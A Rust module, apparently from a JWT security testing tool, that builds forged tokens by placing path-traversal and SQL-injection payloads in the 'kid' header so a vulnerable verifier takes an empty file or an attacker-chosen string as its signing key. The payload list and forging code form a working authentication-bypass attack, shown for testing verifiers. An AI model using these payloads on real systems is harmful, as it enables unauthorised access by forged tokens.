//! Names of keys that lead to a key of the attacker's choice (RFC 8725 §3.10, CWE-22, CWE-89).

use serde_json::Value;

use super::{Defence, Forge, Forgery, Key, Signer, Token};

/// A name, and what the verifier then takes for the secret.
const INJECTIONS: [(&str, &str, &str); 9] = [
    ("/dev/null", "", "the path of an empty file"),
    ("../../../../../../../../../../dev/null", "", "a path up to an empty file"),
    (
        "../../../../../../../../../../proc/sys/kernel/randomize_va_space",
        "2\n",
        "a path up to a file that is the same everywhere",
    ),
    ("portcullis' UNION SELECT 'pclkey", "pclkey", "a statement that gives a key of our own"),
    ("portcullis' UNION SELECT 'pclkey'-- -", "pclkey", "a statement that gives a key of our own"),
    (
        "portcullis' UNION SELECT 'pclkey','pclkey'-- -",
        "pclkey",
        "a statement that gives a key of our own",
    ),
    (
        "portcullis' UNION SELECT 'pclkey','pclkey','pclkey'-- -",
        "pclkey",
        "a statement that gives a key of our own",
    ),
    ("portcullis\" UNION SELECT 'pclkey'-- -", "pclkey", "a statement that gives a key of our own"),
    ("0 UNION SELECT 'pclkey'-- -", "pclkey", "a statement that gives a key of our own"),
];

/// One for each name; beside each the same name under another key.
pub fn forgeries(token: &Token) -> Vec<Forgery> {
    let algorithm = if token.is_symmetric() { token.algorithm() } else { "HS256" };
    INJECTIONS
        .iter()
        .filter_map(|(name, key, what)| {
            let alg = ("alg", Value::from(algorithm));
            let header = token.header_with(&[alg, ("kid", Value::from(*name))]);
            let forge = |key: &str| Forge {
                header: header.clone(),
                signer: Signer::Secret {
                    algorithm: algorithm.to_owned(),
                    secret: Key(key.as_bytes().to_vec().into()),
                    shown: format!("hexkey:{}", hex::encode(key)),
                },
            };
            let what = format!("`kid` is {what}: `{name}`");
            let forge_of_key = forge(key);
            let forgery = Forgery::new(Defence::KeyId, what, token.forged(&forge_of_key, &[])?);
            let doubt = token.forged(&forge("portcullis is no key"), &[]);
            Some(Forgery { doubt, forge: Some(forge_of_key), ..forgery })
        })
        .collect()
}
